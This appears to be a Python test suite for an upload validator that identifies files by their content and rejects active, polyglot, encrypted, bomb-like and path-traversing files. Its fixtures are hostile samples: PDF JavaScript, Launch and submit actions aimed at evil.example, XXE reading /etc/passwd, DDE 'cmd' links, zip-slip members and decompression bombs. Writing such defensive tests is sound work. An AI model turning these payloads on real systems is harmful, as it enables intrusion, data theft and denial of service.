"""What is attached is told by its content; what is two things at once, acts or unfolds without end is refused."""

from __future__ import annotations

import io
import logging
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from tests.kernel.forms.applying import a_pdf, a_png

from zhihai.ground.forms.fields import FILE_TYPES
from zhihai.ground.forms.files import file_name, suited, type_of
from zhihai.ground.refusal import Refused

TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def archive(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return out.getvalue()


def a_docx(**more: bytes) -> bytes:
    return archive({"[Content_Types].xml": TYPES, "word/document.xml": b"<w/>", **more})


def a_jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "JPEG")
    return out.getvalue()


def a_script_pdf() -> bytes:
    made = PdfWriter()
    made.add_blank_page(72, 72)
    script = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    made.root_object[NameObject("/OpenAction")] = DictionaryObject(script)
    out = io.BytesIO()
    made.write(out)
    return out.getvalue()


def a_carrying_pdf() -> bytes:
    made = PdfWriter()
    made.add_blank_page(72, 72)
    made.add_attachment("virus.exe", b"MZ")
    out = io.BytesIO()
    made.write(out)
    return out.getvalue()


def a_locked_pdf() -> bytes:
    made = PdfWriter()
    made.add_blank_page(72, 72)
    made.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    made.write(out)
    return out.getvalue()


def a_vast_png() -> bytes:
    """An image of two thousand million points in a hundred bytes."""

    def part(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", 50_000, 40_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(b"\0")) + part(b"IEND", b"")


@pytest.mark.parametrize(
    ("content", "sort"),
    [
        (a_pdf(), "pdf"), (a_png(), "png"), (a_jpeg(), "jpeg"), (a_docx(), "docx"),
        (archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<w/>"}), "xlsx"),
        (archive({"OFD.xml": b"<ofd/>", "Doc_0/Document.xml": b"<d/>"}), "ofd"),
    ],
)  # fmt: skip
def test_a_file_is_what_it_holds(content: bytes, sort: str) -> None:
    assert type_of(content, "whatever.txt", FILE_TYPES) == sort


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "file_empty"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "file_type"),
        (b"<html><script>alert(1)</script></html>", "file_type"),
        (b"MZ" + b"\0" * 200, "file_type"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file_type"),
        (archive({"a.txt": b"a"}), "file_type"),
        (a_png() + a_docx(), "file_double"),
        (a_jpeg() + archive({"a.txt": b"a"}), "file_double"),
        (a_pdf() + a_docx(), "file_double"),
        (a_pdf() + b"<script>alert(1)</script>", "file_double"),
        (a_docx() + b"more", "file_double"),
        (a_png() + b"<?php evil() ?>", "file_double"),
        (a_docx(**{"word/vbaProject.bin": b"x"}), "file_active"),
        (a_docx(**{"word/embeddings/oleObject1.bin": b"x"}), "file_active"),
        (archive({"[Content_Types].xml": b"macroEnabled", "word/document.xml": b"<w/>"}), "file_active"),
        (a_script_pdf(), "file_active"),
        (a_carrying_pdf(), "file_active"),
        (a_locked_pdf(), "file_locked"),
        (a_vast_png(), "file_bomb"),
        (a_docx(**{"word/media/big.bmp": b"\0" * (32 * 2**20)}), "file_bomb"),
        (a_docx(**{f"word/{n}.xml": b"" for n in range(2001)}), "file_bomb"),
        (a_docx(**{"../../etc/passwd": b"x"}), "file_broken"),
        (a_png()[:40] + b"IEND\xaeB`\x82", "file_broken"),
        (b"%PDF-1.7\n%%EOF", "file_broken"),
        (b"%PDF-1.7\n" + b"1 0 obj<</Kids[1 0 R]>>endobj\n" * 50 + b"trailer<</Root 1 0 R>>\n%%EOF", "file_broken"),
        (b"PK\x03\x04" + b"\0" * 40 + b"PK\x05\x06" + b"\0" * 18, "file_type"),
    ],
)  # fmt: skip
def test_what_may_harm_is_refused_by_name(content: bytes, code: str) -> None:
    with pytest.raises(Refused) as refused:
        type_of(content, "扫描件.pdf", FILE_TYPES)
    assert (refused.value.code, refused.value.facts["name"]) == (code, "扫描件.pdf")


def test_a_type_that_was_not_asked_for_is_refused() -> None:
    with pytest.raises(Refused) as refused:
        type_of(a_docx(), "a.docx", ("pdf", "png"))
    assert refused.value.facts["types"] == "PDF PNG"


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("C:\\fakepath\\合同.pdf", "合同.pdf"), ("../../etc/passwd", "passwd"), ("a\r\nb\x00.png", "ab.png"),
        ("", "-"), ("<script>.png", "script.png"), ("长" * 200 + ".pdf", "长" * 116 + ".pdf"),
        ("\u202egnp.exe", "gnp.exe"),
    ],
)  # fmt: skip
def test_names_are_tidied(written: str, kept: str) -> None:
    assert file_name(written) == kept


def test_a_name_ends_as_what_the_file_is() -> None:
    assert [suited("a.exe", "png"), suited("a.PDF", "pdf"), suited("a", "jpeg")] == ["a.exe.png", "a.PDF", "a.jpg"]


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R%s>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>"


def a_written_pdf(catalog: bytes, more: bytes = b"", generation: int = 0) -> bytes:
    """A PDF written by hand: what its catalog says besides, and an object 4 of some generation."""
    objects = [(0, CATALOG % catalog), (0, PAGES), (0, PAGE), *([(generation, more)] if more else [])]
    content, table = b"%PDF-1.7\n", b""
    for number, (of, one) in enumerate(objects, 1):
        table += b"%d 1\n%010d %05d n \n" % (number, len(content), of)
        content += b"%d %d obj\n%s\nendobj\n" % (number, of, one)
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(content))
    return content + b"xref\n0 1\n0000000000 65535 f \n" + table + end


def a_listed_pdf(unfolds_by: bytes, list_: bytes) -> bytes:
    """A PDF whose list of objects is itself packed."""
    content = b"%%PDF-1.7\n1 0 obj\n%s\nendobj\n2 0 obj\n%s\nendobj\n" % (CATALOG % b"", PAGES)
    head = b"<</Type/XRef/Size 5/Root 1 0 R/W[1 2 1]/Index[0 90000]/Filter/%s/Length %d>>" % (unfolds_by, len(list_))
    at = len(content)
    return content + b"4 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, list_, at)


@pytest.mark.parametrize(
    ("catalog", "action", "generation"),
    [
        (b"/OpenAction 4 1 R", b"<</S/JavaScript/JS(app.alert(1))>>", 1),
        (b"/OpenAction 4 0 R", b"<</S/J#61vaScript/J#53(app.alert(1))>>", 0),
        (b"/OpenAction 4 0 R", b"<</S/URI/URI(https://evil.example/)>>", 0),
        (b"/OpenAction 4 0 R", b"<</S/Named/N/NextPage/Next<</S/URI/URI(https://evil.example/)>>>>", 0),
        (b"/OpenAction<</S 4 0 R/Next null>>", b"/Launch", 0),
        (b"/AA<</O 4 0 R>>", b"<</S/URI/URI(https://evil.example/)>>", 0),
        (b"/X 4 0 R", b"<</S/SubmitForm/F(https://evil.example/)>>", 0),
        (b"/X 4 0 R", b"<</S/GoToR/F(//evil.example/share/x)>>", 0),
        (b"/X 4 0 R", b"<</S/GoToE>>", 0),
    ],
)
def test_a_pdf_that_acts_is_refused_however_it_is_written(catalog: bytes, action: bytes, generation: int) -> None:
    """Under another generation too: an object written anew hid what it does."""
    with pytest.raises(Refused) as refused:
        type_of(a_written_pdf(catalog, action, generation), "a.pdf", ["pdf"])
    assert refused.value.code == "file_active"


def test_a_pdf_may_begin_at_one_of_its_pages_and_hold_links() -> None:
    link = b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org/)>>>>"
    for opening in (b"/OpenAction[3 0 R/Fit]", b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"):
        assert type_of(a_written_pdf(opening + b"/X 4 0 R", link), "a.pdf", ["pdf"]) == "pdf"


@pytest.mark.parametrize(
    "content",
    [
        a_listed_pdf(b"ASCII85Decode", b"z" * 17_000_000),
        a_listed_pdf(b"LZWDecode", b"\x80\x0b\x60\x50" * 4_000_000),
        a_listed_pdf(b"FlateDecode", zlib.compress(b"\0" * 80_000_000)),
        a_written_pdf(b"/X<%s>" % (b"41" * 8_000_000)),
    ],
    ids=["digits", "codes", "zeros", "hex"],
)
def test_a_pdf_that_unfolds_without_end_is_left_at_once(content: bytes) -> None:
    """Each took 3 to 16 seconds, and one 1.9 GB."""
    began = time.process_time()
    with pytest.raises(Refused) as refused:
        type_of(content, "a.pdf", ["pdf"])
    assert refused.value.code in ("file_bomb", "file_broken")
    assert time.process_time() - began < 1.5


def test_a_file_writes_no_log(caplog: pytest.LogCaptureFixture) -> None:
    """The reader of PDF tells each oddity: a file of 12 MB had it write a million lines."""
    with caplog.at_level(logging.DEBUG, logger=""):
        type_of(a_written_pdf(b"/A 1" * 100), "a.pdf", ["pdf"])
    assert caplog.records == []


RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="https://evil.example/t" '
    b'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "member",
    [
        {"word/_rels/settings.xml.rels": RELS % b"attachedTemplate"},
        {"word/_rels/document.xml.rels": (RELS % b"image").decode().encode("utf-16")},
        {"word/_rels/document.xml.rels": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'},
        {"word/embeddings/package1.bin": b"MZ"}, {"word/embeddings/a.docm": b"PK"}, {"word/embeddings/a.zip": b"PK"},
        {"xl/macrosheets/sheet1.xml": b"<x/>"},
        {"xl/externalLinks/externalLink1.xml": b'<x:ddeLink ddeService="cmd"/>'},
        {"xl/externalLinks/externalLink1.xml": '<x:ddeLink ddeService="cmd"/>'.encode("utf-16")},
        {
            "[Content_Types].xml": b'<Types><Override PartName="/a/b.xml" ContentType="x.externalLink+xml"/></Types>',
            "a/b.xml": b'<x:ddeLink ddeService="cmd"/>',
        },
        {"word/header1.xml": b"<w:instrText>DD</w:instrText><w:r/><w:instrText a='b'>EAUTO cmd</w:instrText>"},
        {"[Content_Types].xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'},
    ],
)  # fmt: skip
def test_a_document_that_fetches_or_carries_something_is_refused(member: dict[str, bytes]) -> None:
    with pytest.raises(Refused) as refused:
        type_of(a_docx(**member), "a.docx", ["docx"])
    assert refused.value.code == "file_active"


def test_a_document_may_hold_links() -> None:
    assert type_of(a_docx(**{"word/_rels/document.xml.rels": RELS % b"hyperlink"}), "a.docx", ["docx"]) == "docx"


def test_a_document_holds_no_way_out_of_a_folder() -> None:
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO(a_docx())
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(link, "/etc/passwd")
    for content in (out.getvalue(), a_docx(**{"..\\..\\evil.xml": b"x"})):
        with pytest.raises(Refused) as refused:
            type_of(content, "a.docx", ["docx"])
        assert refused.value.code == "file_broken"


def packed(how: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as made:
        made.writestr("[Content_Types].xml", TYPES * 5)
        made.writestr("word/document.xml", b"<w/>" + bytes(range(256)) * 2)
    return out.getvalue()


WHOLE: tuple[Callable[[], bytes], ...] = (
    a_pdf, a_png, a_jpeg, a_carrying_pdf, lambda: packed(zipfile.ZIP_DEFLATED), lambda: packed(zipfile.ZIP_BZIP2),
    lambda: packed(zipfile.ZIP_LZMA),
)  # fmt: skip


@settings(max_examples=600, deadline=None, derandomize=True)
@given(
    st.sampled_from([one() for one in WHOLE]),
    st.lists(st.tuples(st.floats(0, 0.999), st.binary(max_size=4), st.integers(0, 4)), min_size=1, max_size=4),
)
def test_a_damaged_file_is_told_and_is_no_fault(whole: bytes, damage: list[tuple[float, bytes, int]]) -> None:
    """A document with a wrong bit was a fault of ours: the archive says so in a way of its own."""
    content = bytearray(whole)
    for place, written, dropped in damage:
        at = int(place * len(content))
        content[at : at + dropped] = written
    with suppress(Refused):
        assert type_of(bytes(content), "a", FILE_TYPES) in FILE_TYPES
